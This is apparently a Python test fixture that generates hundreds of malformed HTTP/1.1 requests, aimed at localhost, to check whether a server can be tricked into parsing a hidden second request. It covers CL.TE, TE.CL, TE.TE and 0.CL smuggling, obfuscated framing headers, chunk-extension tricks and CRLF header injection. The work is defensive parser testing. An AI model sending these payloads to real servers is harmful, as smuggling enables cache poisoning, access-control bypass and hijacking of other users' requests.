"""Requests whose end two readers could see in different places; each hides another request.

The sources are RFC 9112 (sections 2.2, 5.2, 6 and 7), the published families of request smuggling (CL.TE, TE.CL, TE.TE,
0.CL, chunk extensions), and known gaps of httptools.
"""

from __future__ import annotations

from collections.abc import Iterator

from .raw import CHAT, chat_body

HIDDEN = b"smuggled"
_HIDDEN_BODY = chat_body(content="smuggled")
SMUGGLED = b"POST %b HTTP/1.1\r\nHost: localhost\r\nContent-Length: %d\r\n\r\n%b" % (
    CHAT.encode(),
    len(_HIDDEN_BODY),
    _HIDDEN_BODY,
)
SMUGGLED_GET = b"GET /smuggled HTTP/1.1\r\nHost: localhost\r\nX: "

TRANSFER_ENCODINGS = (
    *(b"Transfer-Encoding: chunked", b"Transfer-Encoding : chunked", b"Transfer-Encoding\t: chunked"),
    *(b" Transfer-Encoding: chunked", b"Transfer-Encoding:chunked", b"Transfer-Encoding:\tchunked"),
    *(b"Transfer-Encoding:\x0bchunked", b"Transfer-Encoding: \x0cchunked", b"Transfer-Encoding: chunked\x00"),
    *(b"Transfer-Encoding: xchunked", b"Transfer-Encoding: chunkedx", b"Transfer-Encoding: chunk"),
    *(b"Transfer-Encoding: chunked, identity", b"Transfer-Encoding: identity, chunked", b"Transfer-Encoding: x"),
    *(b"Transfer-Encoding: chunked, chunked", b"Transfer-Encoding: gzip, chunked", b"Transfer-Encoding: ,chunked"),
    *(b"Transfer-Encoding: chunked;q=1", b'Transfer-Encoding: "chunked"', b"Transfer-Encoding: CHUNKED"),
    *(b"Transfer-Encoding:", b"Transfer-Encoding: identity", b"Transfer_Encoding: chunked", b"TE: chunked"),
    *(b"Transfer-Encoding:\r\n chunked", b"Transfer-Encoding\r\n: chunked", b"X: y\nTransfer-Encoding: chunked"),
    *(
        b"X: y\rTransfer-Encoding: chunked",
        b"X: y\r\n\rTransfer-Encoding: chunked",
        b"X\x00: y\r\nTransfer-Encoding: x",
    ),
    *(b"Transfer-Encoding: chunked\r\nTransfer-Encoding: x", b"Transfer-Encoding: x\r\nTransfer-Encoding: chunked"),
    *(b"Transfer-\xc3\x8bncoding: chunked", b"Transfer-Encoding: chun\xc3\xafked", b"Transfer\xadEncoding: chunked"),
    *(b"Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked", b"Transfer-Encoding: chunked\r\nConnection: TE"),
)
LENGTHS = (
    *(
        b"Content-Length: %d\r\nContent-Length: %d",
        b"Content-Length: 0\r\nContent-Length: %d",
        b"Content-Length: %d, %d",
    ),
    *(b"Content-Length: %d\r\nContent-Length: 0", b"Content-Length: 0, %d", b"Content-Length: +%d"),
    *(b"Content-Length: -%d", b"Content-Length: 0x%x", b"Content-Length: %d %d", b"Content-Length: 0%d"),
    *(b"Content-Length: %d\x00", b"Content-Length: %d;", b"Content-Length: %d.0", b"Content-Length: %de0"),
    *(b"Content-Length : %d", b"Content-Length\t: %d", b" Content-Length: %d", b"Content_Length: %d"),
    *(b"Content-Length:\r\n %d", b"X: y\nContent-Length: %d", b"X: y\rContent-Length: %d", b"Content-Length: \x0b%d"),
    *(b"Content-Length:", b"Content-Length: ", b"Content-Length: 1844674407370955161%d", b"Content-Length: 9%d" * 40),
    *(b"Connection: Content-Length\r\nContent-Length: %d", b"Content-Length: %d\r\nconTENT-length: 1"),
)
# Each holds a whole chunk of the outer body, %b, at a place where a reader might see the end.
CHUNKS = (
    *(b"%x\r\n%b\r\n0\r\n\r\n", b"%x\r\n%b\r\n0\r\n\r", b"%x\r\n%b\r\n0\n\n", b"%x\n%b\n0\n\n", b"%x\r\n%b0\r\n\r\n"),
    *(b"%x\r%b\r0\r\r", b"0x%x\r\n%b\r\n0\r\n\r\n", b"+%x\r\n%b\r\n0\r\n\r\n", b"-%x\r\n%b\r\n0\r\n\r\n"),
    *(b" %x\r\n%b\r\n0\r\n\r\n", b"%x \r\n%b\r\n0\r\n\r\n", b"%x\t;a\r\n%b\r\n0\r\n\r\n", b"%x;\r\n%b\r\n0\r\n\r\n"),
    *(
        b"%x;a=b\r\n%b\r\n0\r\n\r\n",
        b"%x;a\nb\r\n%b\r\n0\r\n\r\n",
        b"%x;a\rb\r\n%b\r\n0\r\n\r\n",
        b"%x\x00\r\n%b\r\n0\r\n\r\n",
    ),
    *(b'%x;a="\r\n0\r\n\r\n"\r\n%b\r\n0\r\n\r\n', b"%x\r\n%b\r\n00000000000000000\r\n\r\n", b"%x\r\n%b\r\n0;x\r\n\r\n"),
    *(b"1%016x\r\n%b\r\n0\r\n\r\n", b"%x\r\n%bX\r\n0\r\n\r\n", b"%x\r\n%b\r\n-0\r\n\r\n", b"%x\r\n%b\r\n\r\n\r\n"),
    *(b"%x\r\n%b\r\n0\r\nContent-Length: 99\r\n\r\n", b"%x\r\n%b\r\n0\r\nTransfer-Encoding: chunked\r\n\r\n"),
    *(
        b"%x\r\n%b\r\n0\r\nGET /smuggled HTTP/1.1\r\n\r\n",
        b"%x\r\n%b\r\n0\r\n: x\r\n\r\n",
        b"%x\r\n%b\r\n0\r\n x\r\n\r\n",
    ),
    *(
        b"%x\r\n%b\r\n0\r\nHost: a\nX: b\r\n\r\n",
        b"%x\r\n%b\r\n0\r\n\n",
        b"%x\r\n%b\r\n0\n\r\n",
        b"%x\r\n%b\r\n0\r\r\n\r\n",
    ),
)
HEAD_LINES = (
    *(b"X-Request-Id: a\nX-Injected: 1", b"X-Request-Id: a\rX-Injected: 1", b"X-Request-Id: a\x00b"),
    *(b"X-Request-Id: a%0d%0aX-Injected: 1", b"X-Request-Id: a\xe5\x98\x8d\xe5\x98\x8aX-Injected: 1"),
    *(b"X-Request-Id: a\r\n X-Injected: 1", b"X-Request-Id: " + b"a" * 4000, b"X-Request-Id:", b"X-Request-Id: a b"),
    *(b"X-Request-Id: a\x85X-Injected: 1", b"X-Request-Id: <script>", b"X-Request-Id: a\tb", b"X-Request-Id: \xff"),
    *(b"traceparent: 00-" + b"0" * 32 + b"-" + b"1" * 16 + b"-01\nX-Injected: 1", b"traceparent: x\rX-Injected: 1"),
    *(b"tracestate: a=b\nX-Injected: 1", b"tracestate: a=b\x00", b"anthropic-version: 1\nX-Injected: 1"),
    *(b"Expect: 100-continue", b"Expect: 100-continue\r\nExpect: x", b"Expect: 200-ok", b"Expect:", b"Expect: y"),
    *(b"Connection: close", b"Connection: keep-alive, close", b"Connection: Host", b"Connection: upgrade"),
    *(b"Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAAQAAP__", b"Upgrade: foo"),
    *(b"Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: AA==", b"Upgrade:\r\nConnection: upgrade"),
    *(b"Content-Encoding: gzip", b"X: y\x00", b"X\x7f: y", b": y", b"nothing at all", b"X y: z", b"\x00", b"X: \x7f"),
    *(b"Host: evil", b"Keep-Alive: timeout=0", b"Trailer: Content-Length", b"Max-Forwards: 0", b"X: y\x0b"),
)


def attacks() -> Iterator[tuple[str, bytes]]:
    """Name and bytes of each. The outer request's prompt is its name; the hidden one's prompt is HIDDEN."""
    for number, line in enumerate(TRANSFER_ENCODINGS):
        name = f"te-{number}"
        body = chat_body(content=name)
        chunked = b"%x\r\n%b\r\n0\r\n\r\n" % (len(body), body)
        # CL.TE: a reader of the length takes the bytes after the last chunk for body.
        yield name + "-cl.te", _post(line, b"Content-Length: %d" % len(chunked + SMUGGLED)) + chunked + SMUGGLED
        yield name + "-te.cl", _post(b"Content-Length: 4", line) + chunked + SMUGGLED
        yield name + "-0.cl", _post(b"Content-Length: 0", line) + chunked + SMUGGLED
        yield name + "-te", _post(line) + chunked + SMUGGLED
        yield name + "-1.0", _post(line, b"Connection: keep-alive", version=b"HTTP/1.0") + chunked + SMUGGLED
        # The hidden request is the body of the chunked one.
        hidden = SMUGGLED_GET + b"\r\n\r\n"
        yield name + "-in", _post(line, b"Content-Length: %d" % len(hidden)) + b"0\r\n\r\n" + hidden
    for number, line in enumerate(LENGTHS):
        name = f"cl-{number}"
        body = chat_body(content=name)
        wanted = line.count(b"%d") + line.count(b"%x")
        for kind, length in (("exact", len(body)), ("more", len(body + SMUGGLED)), ("less", 2)):
            yield f"{name}-{kind}", _post(line % ((length,) * wanted)) + body + SMUGGLED
    for number, pattern in enumerate(CHUNKS):
        name = f"chunk-{number}"
        body = chat_body(content=name)
        framed = _post(b"Transfer-Encoding: chunked") + pattern % (len(body), body)
        yield name, framed + SMUGGLED
        yield name + "-alone", framed
        yield name + "-get", framed + SMUGGLED_GET + b"\r\n\r\n"
    for number, line in enumerate(HEAD_LINES):
        name = f"line-{number}"
        body = chat_body(content=name)
        request = _post(line, b"Content-Length: %d" % len(body)) + body
        yield name, request
        yield name + "-pipelined", request + SMUGGLED
    yield from _others()


def _others() -> Iterator[tuple[str, bytes]]:
    body = chat_body(content="other")
    length = b"Content-Length: %d" % len(body)
    plain = _post(length) + body
    yield "pipelined", plain + SMUGGLED
    yield "pipelined-get", plain + SMUGGLED_GET + b"\r\n\r\n"
    yield "pipelined-after-line-ends", plain + b"\r\n\r\n" + SMUGGLED
    yield "pipelined-lf", plain + b"\n" + SMUGGLED
    yield "leading-line-ends", b"\r\n\r\n\r\n" + plain
    yield "leading-space", b" " + plain
    yield "leading-nul", b"\x00" + plain
    yield "lf-only", plain.replace(b"\r\n", b"\n")
    yield "cr-only", plain.replace(b"\r\n", b"\r")
    yield "lf-after-the-request-line", plain.replace(b"HTTP/1.1\r\n", b"HTTP/1.1\n")
    yield "lf-for-the-blank-line", plain.replace(b"\r\n\r\n", b"\r\n\n")
    yield "lf-before-the-blank-line", plain.replace(b"\r\n\r\n", b"\n\r\n")
    yield "lf-then-hidden", plain.replace(b"\r\n\r\n", b"\n\n") + SMUGGLED
    for version in (
        b"HTTP/0.9",
        b"HTTP/1.2",
        b"HTTP/2.0",
        b"HTTP/1.10",
        b"HTTP/11",
        b"HTTP/1.1 x",
        b"",
        b"http/1.1",
        b"ICY",
    ):
        yield f"version-{version.decode()}", _post(length, version=version) + body + SMUGGLED
    yield "0.9", b"GET /smuggled\r\n"
    yield "0.9-lf", b"GET /smuggled\n"
    yield "preface", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + plain
    yield (
        "get-with-body",
        b"GET /v1/models HTTP/1.1\r\nHost: localhost\r\nContent-Length: %d\r\n\r\n" % len(SMUGGLED) + SMUGGLED,
    )
    yield (
        "get-with-chunks",
        b"GET /health HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + SMUGGLED,
    )
    yield "get-with-both", b"GET /health HTTP/1.1\r\nHost: a\r\nContent-Length: 3\r\n\r\n" + SMUGGLED
    yield "not-found-with-body", b"POST /nowhere HTTP/1.1\r\nHost: a\r\nContent-Length: 3\r\n\r\n{}\n" + SMUGGLED
    yield "head-with-body", b"HEAD /health HTTP/1.1\r\nHost: a\r\nContent-Length: 3\r\n\r\n" + SMUGGLED
    yield "connect", b"CONNECT smuggled:443 HTTP/1.1\r\nHost: smuggled\r\n\r\n" + SMUGGLED
    yield "close-then-more", _post(length, b"Connection: close") + body + SMUGGLED
    yield "1.0-then-more", _post(length, version=b"HTTP/1.0") + body + SMUGGLED
    yield "expect-then-more", _post(length, b"Expect: 100-continue") + body + SMUGGLED
    yield "two-bodies", plain + body
    yield "short-body", _post(b"Content-Length: %d" % (len(body) + 1)) + body
    yield "model-with-line-ends", _json(b'{"model":"a\\r\\nX-Injected: 1","messages":[]}')
    yield "field-with-line-ends", _json(b'{"model":"emulated","messages":[],"a\\r\\nX-Injected: 1":2}')
    yield "fields-reported", _json(body[:-1] + b',"a\\r\\nX-Injected: 1":2,"best_of":3,"x y":1}')


def _post(*lines: bytes, version: bytes = b"HTTP/1.1") -> bytes:
    return b"\r\n".join([b"POST %b %b" % (CHAT.encode(), version), b"Host: localhost", *lines, b"", b""])


def _json(body: bytes) -> bytes:
    return _post(b"Content-Length: %d" % len(body)) + body
